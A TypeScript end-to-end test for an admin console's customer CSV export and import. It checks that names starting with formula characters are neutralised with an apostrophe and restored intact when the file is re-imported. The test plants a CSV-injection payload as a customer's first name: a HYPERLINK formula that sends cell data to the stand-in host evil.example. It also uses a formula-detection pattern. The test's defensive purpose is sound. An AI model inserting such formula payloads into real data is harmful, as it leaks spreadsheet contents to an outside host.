import { readFileSync } from 'node:fs'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { customers } from '@/api/admin/customers'
import { storeCustomers } from '@/api/store/customers'
import { parseCsv } from '@/commands/core/csv'
import { consoleUrl, press, logIn, withSignedInBrowser } from './browser'
import { command, expectPrompt, toast } from './keyboard'

// OWASP "CSV injection", end to end: a shopper signs up through the storefront API with names a
// spreadsheet would run as formulas; the operator exports the customers in Chromium. The file holds
// them as text, and the console's own import reads them back unchanged.

const stamp = Date.now().toString(36)
const email = `e2e-formula-${stamp}@customers.example`
const FIRST_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
const LAST_NAME = '+1+1'
/** What a spreadsheet runs as a formula at the start of a cell. */
const FORMULA_START = /^[=+\-@\t\r]/

const serverCustomer = async () => (await customers.list({ q: email })).customers.find((c) => c.email === email)

describe('formula names, signed up through the store API and exported in Chromium', () => {
  let file = ''
  const browser = withSignedInBrowser(async (page) => {
    // Any shopper can do this: the storefront's sign-up takes no key and no check of the names.
    await storeCustomers.create({ email, password: `pw-${stamp}-secret`, first_name: FIRST_NAME, last_name: LAST_NAME })
    await logIn(page, `/login?next=${encodeURIComponent(`/a/customers?q=${stamp}`)}`)
    await page.getByRole('grid', { name: 'Customers' }).getByText(email).waitFor()
  })

  it('exports them with an apostrophe first, and no cell of the file starts a formula', async () => {
    const page = browser.page
    const download = page.waitForEvent('download')
    await command(page, 'Export customers as CSV')
    file = readFileSync(await (await download).path(), 'utf8')

    const [header = [], ...rows] = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data
    expect(rows).toHaveLength(1)
    const written = Object.fromEntries(header.map((column, at) => [column, rows[0]?.[at]]))
    expect(written).toMatchObject({ email, first_name: `'${FIRST_NAME}`, last_name: `'${LAST_NAME}` })
    expect([header, ...rows].flat().filter((cell) => FORMULA_START.test(cell))).toEqual([])
  })

  it('reads the file back to the names the shopper gave', () => {
    const parsed = parseCsv(file)
    expect(parsed.errors).toEqual([])
    expect(parsed.rows).toEqual([expect.objectContaining({ email, first_name: FIRST_NAME, last_name: LAST_NAME })])
  })

  it('imports the file back: the names written to Medusa are the original ones, not the apostrophed', async () => {
    const page = browser.page
    const customer = await serverCustomer()
    // Renamed meanwhile, so the import has something to write: the file's names must come back as they were.
    await customers.update(customer?.id ?? '', { first_name: 'Renamed', last_name: 'Meanwhile' })
    await page.goto(consoleUrl(`/a/customers?q=${stamp}`))
    await page.getByRole('grid', { name: 'Customers' }).getByText(email).waitFor()
    await command(page, 'Import customers from CSV')
    await expectPrompt(page, 'Import customers from CSV › CSV file')
    await page.getByRole('dialog').locator('input[type=file]').setInputFiles({ name: `export-${stamp}.csv`, mimeType: 'text/csv', buffer: Buffer.from(file) })
    await press(page, 'Enter')
    await expectPrompt(page, 'Import customers from CSV › Preview')
    await page.getByRole('dialog').getByRole('option', { name: /Write: 0 to create, 1 to update/, selected: true }).waitFor()
    await press(page, 'Enter')
    await page.getByRole('dialog').getByText(`Import export-${stamp}.csv: 0 to create, 1 to update.`, { exact: false }).waitFor()
    await press(page, 'Enter')
    await toast(page, 'Import: 0 created, 1 updated, 0 failed')
    expect(await serverCustomer()).toMatchObject({ first_name: FIRST_NAME, last_name: LAST_NAME })
  })
})
